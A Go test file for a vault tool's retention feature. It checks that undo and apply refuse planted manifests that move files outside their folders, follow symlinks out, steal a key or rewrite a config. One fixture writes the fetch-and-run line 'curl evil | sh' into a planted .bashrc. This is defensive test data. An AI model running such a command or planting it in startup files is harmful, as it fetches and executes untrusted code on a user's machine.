package observer

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"clawvault-tui/model"
	"clawvault-tui/store"
	"clawvault-tui/store/fileid"
)

// plantedManifest is a state dir and a vault with an archive folder where
// an apply puts one, and a place outside both.
type plantedManifest struct {
	f                *fixture
	archive, outside string
}

func newPlantedManifest(t *testing.T) *plantedManifest {
	t.Helper()
	p := &plantedManifest{f: newFixture(t), outside: t.TempDir()}
	p.archive = filepath.Join(p.f.state, "clawvault-tui-retention", "2026-11-21T12-00-00.000Z")
	p.f.write(filepath.Join(p.f.vault, "ledger", "observations", "2026", "11", "01.md"), "## 2026-11-01\n")
	return p
}

// archived writes a file at to and returns its move back to from, as a
// manifest records it.
func (p *plantedManifest) archived(t *testing.T, plan, from, to, content string) model.ManifestMove {
	t.Helper()
	p.f.write(to, content)
	fi, err := os.Stat(to)
	if err != nil {
		t.Fatal(err)
	}
	return model.ManifestMove{Plan: plan, Step: "archive", From: from, To: to, Size: fi.Size(),
		ModTime: fi.ModTime().UTC().Format(time.RFC3339Nano), Done: true}
}

func (p *plantedManifest) manifest(moves ...model.ManifestMove) *model.RetentionManifest {
	return &model.RetentionManifest{Version: model.ManifestVersion, Tool: "clawvault-tui", Status: model.ManifestApplied,
		StateDir: p.f.state, Vault: p.f.vault, ArchiveDir: p.archive, Moves: moves,
		Stores: []model.ManifestStore{}, CreatedDirs: []string{}}
}

// A manifest is a file in the state dir, where agents write: a crafted one
// made `retention --undo` move files anywhere it named (create a file
// outside, move a secret in). Every move must stay between the manifest's
// own folder, its state dir (the one it sits in, or the workspace's) and
// its vault, links followed, or nothing of it is done.
func TestUndoRefusesAPlantedManifest(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name string
		// craft returns the manifest and the files that must not change
		// (path → content; "" for a file that must not exist).
		craft func(t *testing.T, p *plantedManifest) (*model.RetentionManifest, map[string]string)
		words string
	}{
		{"a move back to outside", func(t *testing.T, p *plantedManifest) (*model.RetentionManifest, map[string]string) {
			rc := filepath.Join(p.outside, ".bashrc")
			to := filepath.Join(p.archive, "main", "x.jsonl")
			return p.manifest(p.archived(t, "maintenance", rc, to, "curl evil | sh\n")), map[string]string{rc: "", to: "curl evil | sh\n"}
		}, "outside"},
		{"a secret moved in", func(t *testing.T, p *plantedManifest) (*model.RetentionManifest, map[string]string) {
			secret := filepath.Join(p.outside, "id_ed25519")
			from := filepath.Join(p.f.sessions, "stolen.jsonl")
			return p.manifest(p.archived(t, "maintenance", from, secret, "KEY\n")), map[string]string{secret: "KEY\n", from: ""}
		}, "outside"},
		{"a ledger move out of the vault", func(t *testing.T, p *plantedManifest) (*model.RetentionManifest, map[string]string) {
			out := filepath.Join(p.outside, "profile")
			to := filepath.Join(p.f.vault, "ledger", "archive", "x.md")
			return p.manifest(p.archived(t, "ledger", out, to, "x\n")), map[string]string{out: "", to: "x\n"}
		}, "outside"},
		{"a state dir of its choosing", func(t *testing.T, p *plantedManifest) (*model.RetentionManifest, map[string]string) {
			target := filepath.Join(p.outside, "agents", "main", "sessions", "a.jsonl")
			to := filepath.Join(p.archive, "main", "a.jsonl")
			m := p.manifest(p.archived(t, "maintenance", target, to, "{}\n"))
			m.StateDir = p.outside
			return m, map[string]string{target: "", to: "{}\n"}
		}, "neither the one it sits in nor this workspace's"},
		{"an archive folder it is not in", func(t *testing.T, p *plantedManifest) (*model.RetentionManifest, map[string]string) {
			to := filepath.Join(p.outside, "x.jsonl")
			from := filepath.Join(p.f.sessions, "x.jsonl")
			m := p.manifest(p.archived(t, "maintenance", from, to, "{}\n"))
			m.ArchiveDir = p.outside
			return m, map[string]string{to: "{}\n", from: ""}
		}, "not the folder it is in"},
		{"a folder of the state dir that links out", func(t *testing.T, p *plantedManifest) (*model.RetentionManifest, map[string]string) {
			if err := os.Symlink(p.outside, filepath.Join(p.f.sessions, "old")); err != nil {
				t.Fatal(err)
			}
			from := filepath.Join(p.f.sessions, "old", "autostart.sh")
			to := filepath.Join(p.archive, "main", "autostart.sh")
			return p.manifest(p.archived(t, "maintenance", from, to, "evil\n")), map[string]string{filepath.Join(p.outside, "autostart.sh"): "", to: "evil\n"}
		}, "which leads to"},
		{"a store rewritten outside", func(t *testing.T, p *plantedManifest) (*model.RetentionManifest, map[string]string) {
			victim := filepath.Join(p.outside, "config.json")
			p.f.write(victim, "{\"mine\":1}")
			orig := filepath.Join(p.archive, "main", "sessions.json")
			p.f.write(orig, "{}")
			m := p.manifest()
			m.Stores = []model.ManifestStore{{Agent: "main", Path: victim, Original: orig, OriginalSHA256: store.SHA256Hex([]byte("{}")),
				WrittenSHA256: store.SHA256Hex([]byte("{\"mine\":1}")), Done: true}}
			return m, map[string]string{victim: "{\"mine\":1}", orig: "{}"}
		}, "outside"},
		{"a vault that is none", func(t *testing.T, p *plantedManifest) (*model.RetentionManifest, map[string]string) {
			m := p.manifest()
			m.Vault = p.outside
			return m, map[string]string{filepath.Join(p.outside, ".clawvault"): ""}
		}, "not a ClawVault vault"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			p := newPlantedManifest(t)
			man, keep := c.craft(t, p)
			path := filepath.Join(p.archive, "manifest.json")
			if err := os.MkdirAll(p.archive, 0o755); err != nil {
				t.Fatal(err)
			}
			if err := store.WriteManifest(store.OSWriter, path, man); err != nil {
				t.Fatal(err)
			}
			_, err := UndoRetention(context.Background(), path, ApplyOptions{Workspace: p.f.workspace()})
			if err == nil || !strings.Contains(err.Error(), c.words) || !strings.Contains(err.Error(), "nothing of it was undone") {
				t.Errorf("undo: %v; want a refusal saying %q", err, c.words)
			}
			for f, want := range keep {
				data, rerr := os.ReadFile(f)
				if want == "" && rerr == nil || want != "" && string(data) != want {
					t.Errorf("%s: %q (%v), want %q", f, data, rerr, want)
				}
			}
		})
	}
}

// A manifest that is a FIFO does not hang the undo.
func TestUndoOfAFIFO(t *testing.T) {
	t.Parallel()
	p := newPlantedManifest(t)
	if err := os.MkdirAll(p.archive, 0o755); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(p.archive, "manifest.json")
	if err := mkfifo(path); err != nil {
		t.Skip(err)
	}
	_, err := UndoRetention(context.Background(), path, ApplyOptions{Workspace: p.f.workspace()})
	if err == nil || !strings.Contains(err.Error(), "not a regular file") {
		t.Errorf("undo of a FIFO: %v", err)
	}
}

// An apply moves only files in the state dir (and the vault's ledger)
// into the archive folder: sessions.json can name a transcript anywhere
// (an absolute sessionFile), and a sessions folder can link out.
func TestApplyRefusesMovesOutOfItsPlaces(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	outside := t.TempDir()
	f.write(filepath.Join(outside, "secret.jsonl"), "{}\n")
	archive := filepath.Join(f.state, "clawvault-tui-retention")
	// The plan as it would be made of a file at path (what the apply checks).
	filePlan := func(path string) model.FilePlan {
		fi, err := os.Stat(path)
		if err != nil {
			t.Fatal(err)
		}
		id := fileid.Of(fi)
		return model.FilePlan{Name: filepath.Base(path), Path: path, Size: id.Size, ModTime: id.ModTime, Inode: id.Inode, Step: "prune"}
	}
	plan := &model.RetentionPlan{Now: testNow, StateDir: f.state, Vault: f.vault, Maintenance: []*model.MaintenancePlan{{
		Agent: "main", StorePath: filepath.Join(f.sessions, "sessions.json"),
		Files: []model.FilePlan{filePlan(filepath.Join(outside, "secret.jsonl"))},
	}}}
	_, _, err := ApplyRetention(context.Background(), plan, ApplyOptions{ArchiveRoot: archive, IncludeUnobserved: true, Workspace: f.workspace()})
	if err == nil || !strings.Contains(err.Error(), "nothing was applied") || !strings.Contains(err.Error(), "outside") {
		t.Errorf("apply: %v", err)
	}
	if data, _ := os.ReadFile(filepath.Join(outside, "secret.jsonl")); string(data) != "{}\n" {
		t.Errorf("the file outside moved")
	}
	// An archive folder inside the state dir that links out.
	if err := os.Symlink(outside, archive); err != nil {
		t.Fatal(err)
	}
	f.write(filepath.Join(f.sessions, "x.jsonl"), "{}\n")
	plan.Maintenance[0].Files[0] = filePlan(filepath.Join(f.sessions, "x.jsonl"))
	_, _, err = ApplyRetention(context.Background(), plan, ApplyOptions{ArchiveRoot: archive, IncludeUnobserved: true, Workspace: f.workspace()})
	if err == nil || !strings.Contains(err.Error(), "through a symbolic link") {
		t.Errorf("apply into a linked archive folder: %v", err)
	}
	if entries, _ := os.ReadDir(outside); len(entries) != 1 {
		t.Errorf("the apply wrote outside: %v", entries)
	}
}
